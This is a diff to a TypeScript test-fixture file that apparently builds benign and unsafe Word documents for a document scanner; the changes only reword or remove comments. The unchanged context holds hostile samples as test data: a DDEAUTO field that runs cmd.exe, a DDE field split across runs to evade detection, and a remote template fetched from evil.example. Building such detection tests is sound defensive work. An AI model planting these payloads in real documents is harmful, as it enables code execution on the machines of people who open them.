@@ -15,7 +15,6 @@ type Case = [name: string, bytes: Buffer];
 
 const documentRelationships = 'word/_rels/document.xml.rels';
 
-/** Makes a relationship: its kind, its target, and whether it is marked external. */
 function pointing(kind: string, target: string, mode = 'External', of = documentRelationships) {
   const type = `${officeRelationships}/${kind}`;
   return docx([
@@ -23,7 +22,6 @@ function pointing(kind: string, target: string, mode = 'External', of = document
   ]);
 }
 
-/** Makes a package with the given types and main part. */
 const packageWith = (more: string, parts: ZipPart[]) =>
   zip([
     contentTypes(undefined, more),
@@ -44,11 +42,9 @@ const instruction = (text: string) =>
 const field = (...runs: string[]) =>
   `<w:p>${character('begin')}${runs.join('')}${character('separate')}${run('<w:t>1</w:t>')}${character('end')}</w:p>`;
 
-/** Makes a document with this body. */
 const documentOf = (body: string) =>
   zip([contentTypes(), rootRelationships(), wordPart('word/document.xml', body)]);
 
-/** Adds a part beside the document, such as a header. */
 function partWith(root: string, body: string): Buffer {
   const kinds: Record<string, string> = {
     hdr: 'header',
@@ -62,7 +58,7 @@ function partWith(root: string, body: string): Buffer {
 }
 
 const dde = 'DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe"';
-/** Makes a document with a drawing among its pictures. */
+/** The document contains the drawing among its pictures. */
 function drawing(inside: string, before = '', extension = 'svg'): Buffer {
   const svg = `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink">${inside}</svg>`;
   const type = '<Default Extension="svg" ContentType="image/svg+xml"/>';
@@ -88,7 +84,7 @@ const rewritten = (name: string, change: (text: string) => Buffer | string) => {
 
 const foreign = 'xmlns:x="urn:x"';
 const compatibility = 'xmlns:mc="http://schemas.openxmlformats.org/markup-compatibility/2006"';
-/** Makes a DDE field with this between two of its letters, which some programs leave out. */
+/** Some programs leave out what is between the two parts of the name of a DDE field. */
 const ddeAround = (between: string) =>
   documentOf(
     field(instruction('DD'), between, instruction('EAUTO cmd')).replace(
@@ -96,7 +92,7 @@ const ddeAround = (between: string) =>
       `<w:p ${foreign} ${compatibility}>`,
     ),
   );
-/** Another namespace hides these, and Word leaves them out or not. */
+/** These dangers are in another namespace, and some versions of Word recognize them. */
 const hiddenByNamespaces: Case[] = [
   [
     'template behind a foreign target',
@@ -202,7 +198,7 @@ const hiddenByNamespaces: Case[] = [
   ],
 ];
 
-/** Word would load, run or start these. */
+/** Word would load, run or start something from these documents. */
 export const unsafeWord: Case[] = [
   ...hiddenByNamespaces,
   ['template by http', pointing('attachedTemplate', 'http://evil.example/t.dotm')],
@@ -464,7 +460,7 @@ export const unsafeOldWord: Case[] = [
   ['DDE field', oldOffice({ '/WordDocument': `${'text'.repeat(2_000)}\u0013 DDEAUTO cmd` })],
 ];
 
-/** These only ask, stay on the machine, or are ordinary in another spelling. */
+/** These documents only ask, stay on the machine, or are ordinary documents in another spelling. */
 export const ordinaryWord: Case[] = [
   ['template of the machine', pointing('attachedTemplate', 'file:///C:\\Users\\a\\Normal.dotm')],
   ['template by name', pointing('attachedTemplate', 'Normal.dotm')],
